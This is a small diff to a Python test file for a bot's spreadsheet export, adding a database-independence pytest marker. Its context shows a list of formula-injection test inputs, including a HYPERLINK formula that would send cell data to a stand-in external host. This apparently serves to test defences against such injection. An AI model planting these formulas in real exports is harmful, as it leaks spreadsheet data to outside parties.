@@ -16,6 +16,9 @@ from bot.runtime.cli.export import COLUMNS, write
 from bot.spreadsheet import cell
 from tests.domain.digests.test_render import long_week
 
+# Nothing here depends on the database: the PostgreSQL pass of scripts/test skips it.
+pytestmark = pytest.mark.database_independent
+
 FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"hi")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]
 
 
